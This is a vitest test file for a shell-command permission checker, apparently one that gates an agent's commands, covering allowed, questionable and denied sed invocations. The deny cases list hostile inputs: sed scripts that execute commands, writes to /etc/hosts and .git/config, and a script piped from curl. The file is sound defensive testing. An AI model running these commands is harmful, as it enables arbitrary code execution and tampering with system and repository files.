import { describe, expect, it } from "vitest";
import { judgedOtherwise } from "../../../../../test/judged-otherwise.ts";

describe("sed", () => {
  it("edits text and files of the workspace", () => {
    const commands = [
      "sed -n '1,20p' src/index.ts",
      "sed -i 's/foo/bar/g' src/a.ts",
      "sed -i.bak -e 's/a/b/' -e '/x/d' f.txt",
      "sed -E 's|/a|/b|' x",
      "sed 's/a/b/w out.txt' in.txt",
      "sed '/^$/d;s/ *$//' f",
      'echo "it\'s" | sed "s/\'//g"',
      "sed -n -e '/a/,/b/p' f",
      "sed '1d;$d' f",
      String.raw`sed -e 's/\(a\)/[\1]/' f`,
      "sed -i '' 's/a/b/' f",
      "sed 's#/usr/bin#/bin#' f",
      "sed = f",
      String.raw`sed 'N;s/\n/,/' f`,
      "sed -n '$=' f",
      "sed '/foo/!d' f",
      'sed "s/a/b/" f',
      "sed 'y/abc/ABC/' f",
      "sed -n '10,20p;20q' f",
      "sed -i '/^import x/d' src/a.ts",
      String.raw`sed -i -E 's/(foo)([0-9]+)/\1_\2/g' src/a.ts`,
      "sed -i '1i // header' src/a.ts",
      "sed -i '$a last line' f",
      "sed -i '5,10s/^/# /' f",
      String.raw`sed 's/\t/  /g' f`,
      String.raw`sed ':a;s/^\(\s*\)x/\1y/;ta' f`,
    ];
    expect(judgedOtherwise("allow", commands)).toEqual([]);
  });

  it("asks about scripts it cannot see", () => {
    const commands = ['sed "s/$a/$b/" f', "sed -f - x < s.sed"];
    expect(judgedOtherwise("ask", commands)).toEqual([]);
  });

  it("refuses scripts that run commands or write elsewhere", () => {
    const commands = [
      "sed -i 's/a/b/' /etc/hosts",
      "sed --in-place=.bak 's/a/b/' /etc/hosts",
      "sed 'w /etc/hosts' x",
      "sed 's/a/id/e' x",
      "sed '1e id' x",
      "sed -e 'p' -e 'e id' x",
      "sed -n '/x/{s/a/b/e}' x",
      "sed -i s/a/b/ .git/config",
      "sed -f - x < <(curl https://e.com)",
      "sed -n 'w/etc/hosts' f",
      "sed 's/x/y/gw /etc/hosts' f",
      "sed -e '1w /etc/hosts' f",
      "sed 's/.*/id/ge' f",
      "sed -n '1!{e id",
      "sed --expression='e id' f",
      "sed -ne 'e' f",
    ];
    expect(judgedOtherwise("deny", commands)).toEqual([]);
  });
});
